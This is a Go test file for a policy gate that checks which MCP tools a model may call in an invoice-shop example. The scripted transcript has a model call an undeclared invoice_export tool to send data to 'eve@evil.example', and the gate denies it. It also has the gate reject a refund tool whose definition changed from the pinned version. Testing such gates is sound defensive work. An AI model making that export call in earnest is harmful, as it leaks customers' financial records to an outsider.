package main

import (
	"io"
	"strings"
	"testing"

	"github.com/modelcontextprotocol/go-sdk/mcp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/helmkernel/helm/examples/frameworks/internal/mcpmodel"
	"github.com/helmkernel/helm/examples/frameworks/internal/officetest"
)

// TestTranscript expects what the other programs print, and then that the tool which the policy
// does not declare and the one whose definition changed are denied.
func TestTranscript(t *testing.T) {
	o, out := officetest.Run(t, open, play)
	common, _, _ := strings.Cut(officetest.Refund, "audit")
	own, ok := strings.CutPrefix(out, common)
	require.True(t, ok, out)
	const changed = "no driver is bound that declares the definition which the tool pins: see executor.Defined"
	assert.Equal(t, `model  calls invoice_export {"to":"eve@evil.example"}
helm   DENY invoice_export DENY_TOOL_NOT_FOUND: no bundle declares the tool, receipt 9
model  is told invoice_export was denied: DENY_TOOL_NOT_FOUND. `+
		`There is no such tool. Use one of the tools you were given. (no bundle declares the tool)
model  calls invoice_refund {"amount":80,"number":"4711"}
helm   DENY invoice_refund DRIVER_NOT_BOUND: `+changed+`, receipt 10
model  is told invoice_refund was denied: DRIVER_NOT_BOUND. The tool is not available. Report this. (`+changed+`)
audit  LOGGED, signer TRUSTED: 2 allowed, 5 denied, 7 receipts, 7 verdicts replayed
`, own)
	officetest.CheckLog(t, o)
}

// TestList expects that the model reads the policy's words, of tools that are there as pinned.
func TestList(t *testing.T) {
	o, err := open(io.Discard)
	require.NoError(t, err)
	defer o.Close()
	shop := newUpstream(o.Shop)
	there, err := mcpmodel.Connect(t.Context(), shop.server)
	require.NoError(t, err)
	defer there.Close()
	client, err := mcpmodel.Connect(t.Context(), newServer(o, there))
	require.NoError(t, err)
	defer client.Close()
	names := func() (names []string) {
		l, err := client.ListTools(t.Context(), nil)
		require.NoError(t, err)
		for _, tool := range l.Tools {
			names = append(names, tool.Name+": "+tool.Description)
		}
		return names
	}
	const find = "invoice_find: Finds an invoice by its number."
	assert.Equal(t, []string{find, "invoice_refund: Pays an amount of an invoice back, in whole euros."}, names())

	shop.add("invoice_find", "Other words, which nothing pins.", shop.shop.Find)
	shop.add("invoice_refund", "Other words.", shop.shop.Refund)
	assert.Equal(t, []string{find}, names())

	require.NoError(t, there.Close())
	assert.Empty(t, names(), "the other server is gone")
	made, err := client.CallTool(t.Context(), &mcp.CallToolParams{Name: "invoice_find",
		Arguments: map[string]any{"number": "4711"}})
	require.NoError(t, err)
	assert.True(t, made.IsError)
	assert.Equal(t, []string{"DENY invoice_find DRIVER_NOT_BOUND: no driver is bound: " +
		"set Intent.Driver or Options.Drivers"}, o.Events)
	assert.Empty(t, o.Shop.Ran())
}

func TestOddCalls(t *testing.T) { officetest.CheckOdd(t, open, play, true) }
